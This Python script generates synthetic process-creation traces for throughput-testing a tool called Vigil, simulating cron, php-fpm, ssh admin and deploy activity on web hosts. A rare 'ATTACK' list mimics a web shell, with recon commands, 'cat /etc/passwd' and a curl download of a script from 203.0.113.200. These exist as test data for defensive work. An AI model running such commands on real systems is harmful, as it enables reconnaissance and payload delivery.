#!/usr/bin/env python3
"""Generates a synthetic process-creation trace in Vigil's process JSON, for throughput tests.

  python3 tools/gen-process-trace.py [EVENTS] [HOSTS] > trace.jsonl      (defaults 1000000, 50)

Each host boots systemd, cron, sshd, nginx, php-fpm with pool workers and a node app; then, in
time order, cron jobs (sh -c -> php wp-cron, backups, logrotate), php-fpm workers calling
sendmail/convert through sh, ssh logins running admin commands, package upgrades, deploys (git,
npm, composer), health checks, and rarely (1 in 5000) a web shell's recon or download. Pids
increase per host and wrap at 4,194,304, so pid reuse happens on long traces. Deterministic.
"""
import json, random, sys

if any(a in ("-h", "--help") for a in sys.argv[1:]):
    print(__doc__.strip())
    sys.exit(0)
try:
    N = int(sys.argv[1]) if len(sys.argv) > 1 else 1_000_000
    HOSTS = int(sys.argv[2]) if len(sys.argv) > 2 else 50
    if N < 0 or HOSTS < 1:
        raise ValueError
except ValueError:
    sys.exit("usage: gen-process-trace.py [EVENTS] [HOSTS]  (whole numbers; EVENTS >= 0, HOSTS >= 1; --help explains)")
rnd = random.Random(42)
out = sys.stdout
t0 = 1_795_000_000_000  # ms
PID_MAX = 4_194_304

ADMIN = ["ls -la /var/www/shop", "df -h", "free -m", "top -b -n 1", "journalctl -u nginx --since today",
         "tail -n 200 /var/log/nginx/error.log", "systemctl status php8.1-fpm", "du -sh /var/www/shop/wp-content/uploads",
         "grep -c 500 /var/log/nginx/access.log", "vim /etc/nginx/sites-available/shop", "htop", "ps aux --sort=-%cpu",
         "git -C /var/www/shop status", "sudo systemctl reload nginx", "cat /etc/nginx/nginx.conf", "less /var/log/syslog"]
CRON = [("/usr/bin/php8.1", "php /var/www/shop/wp-cron.php"), ("/usr/local/bin/backup-db.sh", "/bin/bash /usr/local/bin/backup-db.sh"),
        ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"), ("/usr/lib/sysstat/debian-sa1", "/usr/lib/sysstat/debian-sa1 1 1"),
        ("/usr/bin/curl", "curl -fsS -m 5 http://127.0.0.1:3000/health")]
HELPERS = [("/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i"), ("/usr/bin/convert", "convert /tmp/php123 -resize 800x600 /var/www/shop/wp-content/uploads/img.jpg"),
           ("/usr/bin/wkhtmltopdf", "wkhtmltopdf --quiet /tmp/inv.html /var/www/shop/invoices/inv.pdf"), ("/usr/bin/gs", "gs -q -dNOPAUSE -sDEVICE=png16m -o /tmp/p.png /tmp/a.pdf")]
DEPLOY = [("/usr/bin/git", "git pull --ff-only origin main"), ("/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js ci"),
          ("/usr/bin/php8.1", "php /usr/local/bin/composer install --no-dev -o"), ("/usr/bin/node", "node node_modules/.bin/tsc -p tsconfig.json")]
ATTACK = [("/usr/bin/id", "id"), ("/usr/bin/uname", "uname -a"), ("/usr/bin/curl", "curl -s -o /tmp/.x http://203.0.113.200/x.sh"),
          ("/usr/bin/cat", "cat /etc/passwd")]


class Host:
    def __init__(self, i):
        self.name = "web%03d.example" % i
        self.next_pid = 300 + rnd.randrange(100)
        self.t = t0 + i * 7
        self.fpm = []

    def pid(self):
        p = self.next_pid
        self.next_pid += 1 + rnd.randrange(3)
        if self.next_pid >= PID_MAX:
            self.next_pid = 300
        return p


def emit(h, pid, ppid, exe, cmd, user="root", cwd="/"):
    h.t += rnd.randrange(5, 400)
    out.write(json.dumps({"time": h.t, "host": h.name, "pid": pid, "ppid": ppid, "exe": exe, "cmdline": cmd,
                          "user": user, "cwd": cwd}, separators=(",", ":")) + "\n")


hosts = [Host(i) for i in range(HOSTS)]
n = 0
for h in hosts:
    emit(h, 1, 0, "/usr/lib/systemd/systemd", "/sbin/init")
    h.cron = h.pid(); emit(h, h.cron, 1, "/usr/sbin/cron", "/usr/sbin/cron -f")
    h.sshd = h.pid(); emit(h, h.sshd, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
    h.nginx = h.pid(); emit(h, h.nginx, 1, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
    h.fpm_master = h.pid(); emit(h, h.fpm_master, 1, "/usr/sbin/php-fpm8.1", "php-fpm: master process (/etc/php/8.1/fpm/php-fpm.conf)")
    for _ in range(8):
        w = h.pid(); h.fpm.append(w); emit(h, w, h.fpm_master, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", "www-data")
    h.node = h.pid(); emit(h, h.node, 1, "/usr/bin/node", "/usr/bin/node /srv/shop-api/server.js", "shopapi", "/srv/shop-api")
    n += 14
while n < N:
    h = hosts[rnd.randrange(HOSTS)]
    r = rnd.random()
    if r < 0.35:
        exe, cmd = CRON[rnd.randrange(len(CRON))]
        sh = h.pid(); emit(h, sh, h.cron, "/usr/bin/dash", "/bin/sh -c '%s >/dev/null 2>&1'" % cmd, "www-data" if "php" in cmd else "root")
        emit(h, h.pid(), sh, exe, cmd, "www-data" if "php" in cmd else "root"); n += 2
    elif r < 0.60:
        exe, cmd = HELPERS[rnd.randrange(len(HELPERS))]
        w = h.fpm[rnd.randrange(len(h.fpm))]
        sh = h.pid(); emit(h, sh, w, "/usr/bin/dash", "sh -c '%s'" % cmd, "www-data", "/var/www/shop")
        emit(h, h.pid(), sh, exe, cmd, "www-data", "/var/www/shop"); n += 2
    elif r < 0.85:
        sess = h.pid(); emit(h, sess, h.sshd, "/usr/sbin/sshd", "sshd: deploy [priv]")
        bash = h.pid(); emit(h, bash, sess, "/usr/bin/bash", "-bash", "deploy", "/home/deploy")
        k = 1 + rnd.randrange(6)
        for _ in range(k):
            cmd = ADMIN[rnd.randrange(len(ADMIN))]
            emit(h, h.pid(), bash, "/usr/bin/" + cmd.split()[0], cmd, "deploy", "/home/deploy")
        n += 2 + k
    elif r < 0.97:
        exe, cmd = DEPLOY[rnd.randrange(len(DEPLOY))]
        emit(h, h.pid(), h.cron, exe, cmd, "deploy", "/var/www/shop"); n += 1
    elif r < 0.9998:
        emit(h, h.pid(), 1, "/usr/bin/apt-get", "apt-get -qq upgrade -y", "root"); n += 1
    else:
        exe, cmd = ATTACK[rnd.randrange(len(ATTACK))]
        w = h.fpm[rnd.randrange(len(h.fpm))]
        sh = h.pid(); emit(h, sh, w, "/usr/bin/dash", "sh -c '%s'" % cmd, "www-data", "/var/www/shop/wp-content/uploads")
        emit(h, h.pid(), sh, exe, cmd, "www-data", "/var/www/shop/wp-content/uploads"); n += 2
